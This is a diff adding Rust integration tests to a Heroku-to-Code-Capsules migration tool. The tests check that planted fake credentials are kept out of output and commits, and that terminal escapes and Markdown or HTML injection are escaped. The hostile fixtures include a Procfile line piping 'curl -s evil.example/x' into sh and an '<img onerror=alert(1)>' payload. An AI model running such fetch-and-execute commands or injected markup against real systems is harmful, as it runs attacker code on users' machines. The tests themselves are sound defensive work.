@@ -350,3 +350,443 @@ fn a_very_large_file_is_skipped_with_a_warning_not_read_as_an_app_file() {
     assert!(!patch.contains("b/package.json"), "the large file is left alone");
     assert!(patch.contains("deleted file mode 100644"), "the Procfile still goes");
 }
+
+/// Credentials recognised by their shape, wherever the repository holds them: each must
+/// be absent from everything the tool prints and commits, and the guide must say where
+/// the value comes from instead.
+#[test]
+fn credentials_never_reach_the_output_or_the_commit() {
+    // Each is the smallest input that shows one class; the secret part must not appear.
+    let stripe = "sk_live_51HxQp2eZvKYlo2C0aBcDeFgH";
+    let github = "ghp_R2d2C3poBb8Yoda1Luke2Leia3Han4Chewie";
+    let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjMifQ.c2lnbmF0dXJlX3ZhbHVl";
+    let slack = "T0AAAAAAA/B0BBBBBBB/cCcCcCcCcCcCcCcCcCcCcCcC";
+    let discord = "1234567890/AbCdEfGhIjKlMnOpQrStUvWxYz";
+    let random = "q8Zr2LmT7vXc4NpB9sKd3WfH";
+    let repo = TempRepo::new();
+    repo.write(
+        "app.json",
+        &format!(
+            r#"{{
+  "scripts": {{ "postdeploy": "PGPASSWORD=pgpass123 psql -f seed.sql" }},
+  "env": {{
+    "CONFIG_A": {{ "value": "{stripe}" }},
+    "GH": {{ "value": "{github}" }},
+    "SESSIONISH": {{ "value": "{jwt}" }},
+    "HOOK": {{ "value": "https://hooks.slack.com/services/{slack}" }},
+    "CHAT": {{ "value": "https://discord.com/api/webhooks/{discord}" }},
+    "PEM": {{ "value": "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBg\n-----END PRIVATE KEY-----" }},
+    "DB": {{ "value": "postgres://app:hunter2hunter2@db.example.com/app" }},
+    "OPAQUE": {{ "value": "{random}" }},
+    "SMTP_PASS": {{ "value": "short" }},
+    "MODE": {{ "value": "fast", "description": "see {stripe}" }}
+  }}
+}}
+"#
+        ),
+    );
+    repo.write("Procfile", &format!("web: MY_OPT={stripe} node index.js\n"));
+    repo.write(
+        "package.json",
+        r#"{ "name": "x", "scripts": { "start": "node index.js", "heroku-postbuild": "DB_PASS=pgpass123 node build.js", "heroku-prebuild": "curl -H 'Authorization: token ghp_R2d2C3poBb8Yoda1Luke2Leia3Han4Chewie' x" } }
+"#,
+    );
+    repo.commit_all("App with credentials");
+    let secrets =
+        [stripe, github, jwt, slack, discord, random, "pgpass123", "hunter2hunter2", "MIIEvQ"];
+    let mut shown = String::new();
+    for format in ["text", "json", "markdown"] {
+        let out = tool(&["plan", &path(&repo), "--format", format]);
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+        shown += &text(&out.stdout);
+        shown += &text(&out.stderr);
+    }
+    let out = tool(&["apply", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    shown += &text(&out.stdout);
+    shown += &text(&out.stderr);
+    let guide = repo.git(&["show", "code-capsules-migration:CODE_CAPSULES.md"]);
+    let message = repo.git(&["log", "-1", "--format=%B", "code-capsules-migration"]);
+    for secret in secrets {
+        assert!(!shown.contains(secret), "{secret} was shown:\n{shown}");
+        assert!(!guide.contains(secret), "{secret} was committed:\n{guide}");
+        assert!(!message.contains(secret), "{secret} is in the commit message:\n{message}");
+    }
+    // The guide says where the values come from instead, and keeps what is not secret.
+    assert!(guide.contains("`heroku config:get CONFIG_A`"), "{guide}");
+    assert!(guide.contains("rotate"), "{guide}");
+    assert!(guide.contains("`PGPASSWORD=*** psql -f seed.sql`"), "{guide}");
+    assert!(guide.contains("`fast`"), "{guide}");
+}
+
+/// Control characters from folder names, Procfile commands and app.json reach the
+/// terminal escaped as git quotes names, never raw; the guide keeps every path and
+/// command in a code span and app.json descriptions cannot make links or HTML.
+#[test]
+fn control_characters_are_shown_escaped_and_markdown_cannot_be_injected() {
+    let repo = TempRepo::new();
+    repo.write("Procfile", "web: curl -s evil.example/x|sh \x1b[2K\x1b[1Gnode api.js\n");
+    repo.write("package.json", "{ \"name\": \"x\" }\n");
+    repo.write(
+        "app.json",
+        r#"{ "env": { "MODE\u001b[8m": { "description": "[click](https://evil.example) <img src=x onerror=alert(1)> ` ``", "value": "a\rb" } } }"#,
+    );
+    repo.write("odd\x1b]0;title\x07`<b>/Procfile", "web: node `x` <i>.js\n");
+    repo.write("odd\x1b]0;title\x07`<b>/package.json", "{ \"name\": \"y\" }\n");
+    repo.write("bad\x1b[31m/Procfile", "web: node a.js\n");
+    repo.write("bad\x1b[31m/package.json", "{");
+    repo.commit_all("Hostile names");
+
+    let out = tool(&["plan", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(2));
+    let stderr = text(&out.stderr);
+    assert!(!stderr.contains('\x1b'), "{stderr:?}");
+    assert!(stderr.starts_with("error: \"bad\\033[31m/package.json\":1:1:"), "{stderr:?}");
+    std::fs::remove_dir_all(repo.path.join("bad\x1b[31m")).unwrap();
+    repo.commit_all("Without the bad file");
+
+    for args in [&["plan"][..], &["apply"][..]] {
+        let out = tool(&[args, &[path(&repo).as_str()]].concat());
+        let (stdout, stderr) = (text(&out.stdout), text(&out.stderr));
+        assert_eq!(out.status.code(), Some(0), "{stderr}");
+        for shown in [&stdout, &stderr] {
+            assert!(!shown.contains(['\x1b', '\x07', '\r']), "{args:?}: {shown:?}");
+        }
+        if args == ["plan"] {
+            assert!(stdout.contains("sh \\033[2K\\033[1Gnode api.js"), "{stdout}");
+            assert!(stdout.contains("\"odd\\033]0;title\\a`<b>\""), "{stdout}");
+        }
+    }
+    let guide = repo.git(&["show", "code-capsules-migration:CODE_CAPSULES.md"]);
+    assert!(!guide.contains(['\x1b', '\x07', '\r']), "{guide:?}");
+    assert!(
+        guide.contains("`` web: curl -s evil.example/x|sh \\033[2K\\033[1Gnode api.js ``")
+            || guide.contains("`web: curl -s evil.example/x\\|sh \\033[2K\\033[1Gnode api.js`"),
+        "{guide}"
+    );
+    assert!(guide.contains(r"\[click\](https\://evil.example) \<img src=x"), "{guide}");
+    assert!(guide.contains(r"- delete `` odd\033]0;title\a`<b>/Procfile ``"), "{guide}");
+    assert!(guide.contains("`` node `x` <i>.js ``"), "{guide}");
+}
+
+/// A repository owned by another user is refused as git refuses it, with git's hint,
+/// and nothing is written; git's `safe.directory` (here `*`) lets it through.
+#[test]
+fn a_repository_owned_by_another_user_is_refused_unless_safe_directory_allows_it() {
+    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
+    let chown = |owner: &str| {
+        let status = Command::new("chown").args(["-R", owner]).arg(&repo.path).status().unwrap();
+        status.success()
+    };
+    if !chown("65534") {
+        eprintln!("skipped: changing a file's owner needs root");
+        return;
+    }
+    let real = repo.path.canonicalize().unwrap().display().to_string();
+    for command in ["plan", "diff", "apply"] {
+        let out = tool(&[command, &path(&repo)]);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{command}: {stderr}");
+        assert!(stderr.contains(&format!("detected dubious ownership in repository at '{real}'")));
+        assert!(stderr.contains(&format!("\tgit config --global --add safe.directory {real}\n")));
+    }
+    assert!(!repo.path.join(".git/capsule-migrate-plan").exists(), "a plan was saved");
+
+    let config = repo.path.parent().unwrap().join("gitconfig");
+    std::fs::write(&config, "[safe]\n\tdirectory = *\n").unwrap();
+    let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
+    cmd.args(["apply", &path(&repo)]);
+    for (k, v) in GIT_ENV {
+        cmd.env(k, v);
+    }
+    let out = cmd.env("GIT_CONFIG_GLOBAL", &config).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(chown("0"));
+    repo.git(&["rev-parse", "--verify", "code-capsules-migration"]);
+}
+
+/// With `commit.gpgsign`, the migration commit is signed as git signs (ssh and OpenPGP
+/// here), and `git verify-commit` accepts it; when signing fails nothing is committed.
+#[test]
+fn commits_are_signed_when_git_config_asks_for_it() {
+    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
+    let keys = repo.path.parent().unwrap();
+    let key = keys.join("id_ed25519");
+    let made = Command::new("ssh-keygen")
+        .args(["-q", "-t", "ed25519", "-N", "", "-C", "author@example.com", "-f"])
+        .arg(&key)
+        .status();
+    if !made.is_ok_and(|s| s.success()) {
+        eprintln!("skipped: ssh-keygen is not installed");
+        return;
+    }
+    let public = std::fs::read_to_string(key.with_extension("pub")).unwrap();
+    let allowed = keys.join("allowed_signers");
+    std::fs::write(&allowed, format!("author@example.com {public}")).unwrap();
+    repo.git(&["config", "commit.gpgsign", "true"]);
+    repo.git(&["config", "gpg.format", "ssh"]);
+    repo.git(&["config", "user.signingkey", &key.with_extension("pub").display().to_string()]);
+
+    let out = tool(&["apply", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(text(&out.stdout).contains("It is signed with the ssh key"), "{}", text(&out.stdout));
+    let verify = format!("gpg.ssh.allowedSignersFile={}", allowed.display());
+    let verified = repo.git_output(&["-c", &verify, "verify-commit", "code-capsules-migration"]);
+    assert!(verified.status.success(), "{}", text(&verified.stderr));
+    repo.git(&["branch", "-D", "code-capsules-migration"]);
+
+    // OpenPGP through gpg, with the committer's identity as the key, as git does.
+    let home = keys.join("gnupg");
+    std::fs::create_dir(&home).unwrap();
+    let gpg = |args: &[&str]| Command::new("gpg").env("GNUPGHOME", &home).args(args).output();
+    let made = gpg(&[
+        "--batch",
+        "--passphrase",
+        "",
+        "--quick-gen-key",
+        "Test Author <author@example.com>",
+        "ed25519",
+        "sign",
+        "never",
+    ]);
+    if made.is_ok_and(|o| o.status.success()) {
+        repo.git(&["config", "--unset", "gpg.format"]);
+        repo.git(&["config", "--unset", "user.signingkey"]);
+        let mut cmd = Command::new(env!("CARGO_BIN_EXE_capsule-migrate"));
+        cmd.args(["apply", &path(&repo)]).env("GNUPGHOME", &home);
+        for (k, v) in GIT_ENV {
+            cmd.env(k, v);
+        }
+        let out = cmd.output().unwrap();
+        assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+        let verified = Command::new("git")
+            .current_dir(&repo.path)
+            .env("GNUPGHOME", &home)
+            .args(["verify-commit", "code-capsules-migration"])
+            .output()
+            .unwrap();
+        assert!(verified.status.success(), "{}", text(&verified.stderr));
+        repo.git(&["branch", "-D", "code-capsules-migration"]);
+    }
+
+    // A signing program that fails: git would not commit, and neither does the tool.
+    repo.git(&["config", "gpg.program", "false"]);
+    repo.git_output(&["config", "--unset-all", "gpg.format"]);
+    let out = tool(&["apply", &path(&repo)]);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("false failed to sign the data"), "{stderr}");
+    assert!(stderr.contains("git config commit.gpgsign false"), "{stderr}");
+    assert_eq!(repo.git(&["branch", "--list"]).trim(), "* main");
+}
+
+/// Only a manifest with Heroku's keys is Heroku's app.json: an Expo app's stays, its
+/// folder is no app (its package.json is not pinned), and the plan says why.
+#[test]
+fn an_app_json_that_is_not_herokus_is_left_alone() {
+    let repo = TempRepo::new();
+    repo.write("Procfile", "web: node index.js\n");
+    repo.write("package.json", "{ \"name\": \"api\" }\n");
+    repo.write("mobile/app.json", "{ \"expo\": { \"name\": \"Shop\", \"slug\": \"shop\" } }\n");
+    repo.write("mobile/package.json", "{ \"name\": \"mobile\" }\n");
+    // A React Native app.json beside a Procfile: the folder is an app, the file is not Heroku's.
+    repo.write("native/Procfile", "web: node server.js\n");
+    repo.write("native/app.json", "{ \"name\": \"Shop\", \"displayName\": \"Shop\" }\n");
+    repo.write("native/package.json", "{ \"name\": \"native\" }\n");
+    repo.commit_all("Apps");
+    let out = tool(&["plan", &path(&repo), "--format", "json"]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let plan: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let changed: Vec<&str> =
+        plan["changes"].as_array().unwrap().iter().map(|c| c["path"].as_str().unwrap()).collect();
+    for untouched in ["mobile/app.json", "mobile/package.json", "native/app.json"] {
+        assert!(!changed.contains(&untouched), "{untouched} changed: {changed:?}");
+    }
+    assert!(changed.contains(&"native/Procfile") && changed.contains(&"native/package.json"));
+    let warnings = plan["warnings"].to_string();
+    assert!(warnings.contains("is not Heroku's app.json (its keys `expo`"), "{warnings}");
+    assert!(warnings.contains("`displayName`"), "{warnings}");
+}
+
+/// JavaScript over 2 MiB is not parsed, but it is searched: a Heroku address in a
+/// committed bundle is named, and the guide never says the code has none.
+#[test]
+fn a_large_bundle_with_a_heroku_address_is_named_not_passed_over() {
+    let padding = "var a=1;".repeat(300_000);
+    let bundle = format!("{padding}\nfetch(\"https://Shop-API.herokuapp.com/x\");{padding}\n");
+    let quiet = format!("{padding}\n");
+    assert!(bundle.len() > 2 * 1024 * 1024);
+    let repo = repo_with(&[
+        ("package.json", b"{ \"name\": \"x\" }\n"),
+        ("public/bundle.js", bundle.as_bytes()),
+        ("public/vendor.js", quiet.as_bytes()),
+    ]);
+    let out = tool(&["plan", &path(&repo)]);
+    let stdout = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(
+        stdout.contains("public/bundle.js:2: is 4.6 MiB, a generated bundle?, so it is not parsed")
+            && stdout.contains("`shop-api.herokuapp.com` (line 2)"),
+        "{stdout}"
+    );
+    assert!(!stdout.contains("vendor.js"), "a bundle that mentions nothing is not named");
+    let out = tool(&["plan", &path(&repo), "--format", "markdown"]);
+    let guide = text(&out.stdout);
+    assert!(guide.contains("- **Not read** `public/bundle.js`"), "{guide}");
+    assert!(!guide.contains("None found"), "{guide}");
+}
+
+/// A tag with the branch's name: the printed commands name the branch in full, and they
+/// work (`git show` would otherwise say "matches more than one" or show the tag).
+#[test]
+fn a_tag_with_the_branch_name_gets_unambiguous_commands() {
+    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
+    repo.git(&["tag", "code-capsules-migration"]);
+    let out = tool(&["apply", &path(&repo)]);
+    let stdout = text(&out.stdout);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(stdout.contains("git push -u origin refs/heads/code-capsules-migration\n"), "{stdout}");
+    let show = "  git show refs/heads/code-capsules-migration:CODE_CAPSULES.md\n";
+    assert!(stdout.contains(show), "{stdout}");
+    let shown = repo.git(&["show", show.trim().trim_start_matches("git show ")]);
+    assert!(shown.starts_with("# Moving to Code Capsules"), "{shown}");
+}
+
+/// `a` and `a/b` cannot both be branches (refs are files): the clash is found before any
+/// object is written, and said as git says it, both ways round.
+#[test]
+fn a_branch_that_clashes_with_a_folder_of_branches_is_refused_before_writing() {
+    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
+    repo.git(&["branch", "code-capsules-migration/old"]);
+    repo.git(&["branch", "mig"]);
+    let objects = || repo.git(&["count-objects", "-v"]);
+    let before = objects();
+    for (branch, existing) in [
+        ("code-capsules-migration", "refs/heads/code-capsules-migration/old"),
+        ("mig/new", "refs/heads/mig"),
+    ] {
+        let out = tool(&["apply", &path(&repo), "--branch", branch]);
+        let stderr = text(&out.stderr);
+        assert_eq!(out.status.code(), Some(2), "{stderr}");
+        let git_says = format!(
+            "cannot lock ref 'refs/heads/{branch}': '{existing}' exists; cannot create \
+             'refs/heads/{branch}'"
+        );
+        assert!(stderr.contains(&git_says), "{stderr}");
+    }
+    // Packed refs clash the same way.
+    repo.git(&["pack-refs", "--all"]);
+    let out = tool(&["apply", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(2), "{}", text(&out.stderr));
+    assert_eq!(objects(), before, "objects were written");
+}
+
+/// A run killed mid-way leaves its temporaries; the next run removes those of its own
+/// that nobody can still be writing, and nothing else.
+#[test]
+fn stale_temporaries_of_a_killed_run_are_cleaned_on_the_next_run() {
+    let repo = repo_with(&[("package.json", b"{ \"name\": \"x\" }\n")]);
+    let git = repo.path.join(".git");
+    let old = std::time::SystemTime::now() - std::time::Duration::from_secs(2 * 60 * 60);
+    let make = |path: &Path, aged: bool| {
+        let file = std::fs::File::create(path).unwrap();
+        if aged {
+            file.set_modified(old).unwrap();
+        }
+    };
+    // A pid that runs no process, and one that does (this test's own).
+    let dead = (400_000..).find(|p| !Path::new(&format!("/proc/{p}")).exists()).unwrap();
+    let live = std::process::id();
+    let dead_plan = git.join(format!("capsule-migrate-plan.{dead}.tmp"));
+    let live_plan = git.join(format!("capsule-migrate-plan.{live}.tmp"));
+    let stale_object = git.join("objects/.tmpAb12Cd");
+    let fresh_object = git.join("objects/.tmpEf34Gh");
+    let gits_own = git.join("objects/tmp_obj_Ij56Kl");
+    make(&dead_plan, false);
+    make(&live_plan, false);
+    make(&stale_object, true);
+    make(&fresh_object, false);
+    make(&gits_own, true);
+
+    let out = tool(&["diff", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    assert!(!dead_plan.exists(), "the plan temporary of a dead process stays");
+    assert!(live_plan.exists(), "the plan temporary of a live process went");
+    assert!(!stale_object.exists(), "an hour-old object temporary stays");
+    assert!(fresh_object.exists(), "an object temporary that may be in use went");
+    assert!(gits_own.exists(), "git's own temporary went");
+    let out = tool(&["apply", &path(&repo)]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let fsck = repo.git_output(&["fsck", "--full"]);
+    assert!(fsck.status.success(), "{}", text(&fsck.stderr));
+}
+
+/// Repositories gix reads differently from git: a SHA-256 repository is migrated like
+/// any other; reftable refs, a blobless partial clone and a Git LFS pointer each stop
+/// with what they are and what to do.
+#[test]
+fn unusual_repository_formats_work_or_say_what_to_do() {
+    let init = |args: &[&str]| {
+        let repo = TempRepo::new();
+        std::fs::remove_dir_all(repo.path.join(".git")).unwrap();
+        repo.git(&[&["init", "-q", "-b", "main"], args].concat());
+        repo.git(&["config", "user.name", "Test Author"]);
+        repo.git(&["config", "user.email", "author@example.com"]);
+        repo.write("Procfile", "web: node index.js\n");
+        repo.write("package.json", "{ \"name\": \"x\" }\n");
+        repo.commit_all("App");
+        repo
+    };
+
+    let sha256 = init(&["--object-format=sha256"]);
+    let out = tool(&["apply", &path(&sha256)]);
+    assert_eq!(out.status.code(), Some(0), "{}", text(&out.stderr));
+    let fsck = sha256.git_output(&["fsck", "--full"]);
+    assert!(fsck.status.success(), "{}", text(&fsck.stderr));
+    let blob = sha256.git(&["rev-parse", "code-capsules-migration:CODE_CAPSULES.md"]);
+    let patch = text(&tool(&["diff", &path(&sha256)]).stdout);
+    assert!(patch.contains(&format!("index 0000000..{}", &blob[..7])), "{patch}");
+
+    let reftable = init(&["--ref-format=reftable"]);
+    let out = tool(&["plan", &path(&reftable)]);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.contains("stores its refs in the reftable format"), "{stderr}");
+    assert!(stderr.contains("refs migrate --ref-format=files"), "{stderr}");
+
+    let origin = init(&[]);
+    origin.write("web/Procfile", "web: node b.js\n");
+    origin.write("web/package.json", "{ \"name\": \"web\" }\n");
+    origin.commit_all("Second app");
+    origin.git(&["config", "uploadpack.allowFilter", "true"]);
+    let clone = origin.path.parent().unwrap().join("partial");
+    let url = format!("file://{}", origin.path.display());
+    let cloned = Command::new("git")
+        .args(["clone", "-q", "--filter=blob:none", "--sparse", &url])
+        .arg(&clone)
+        .status()
+        .unwrap();
+    assert!(cloned.success());
+    let out = tool(&["plan", &clone.display().to_string()]);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.starts_with("error: web/"), "{stderr}");
+    assert!(stderr.contains("this is a partial clone"), "{stderr}");
+    let fetch = format!("git -C {} fetch --refetch --no-filter origin", clone.display());
+    assert!(stderr.contains(&fetch), "{stderr}");
+    let fetched = Command::new("sh").args(["-c", &fetch]).status().unwrap();
+    assert!(fetched.success());
+    assert_eq!(tool(&["plan", &clone.display().to_string()]).status.code(), Some(0));
+
+    let lfs = init(&[]);
+    lfs.write(
+        "package.json",
+        "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
+    );
+    lfs.commit_all("LFS");
+    let out = tool(&["plan", &path(&lfs)]);
+    let stderr = text(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{stderr}");
+    assert!(stderr.starts_with("error: package.json: is a Git LFS pointer"), "{stderr}");
+    assert!(stderr.contains("git lfs untrack"), "{stderr}");
+}
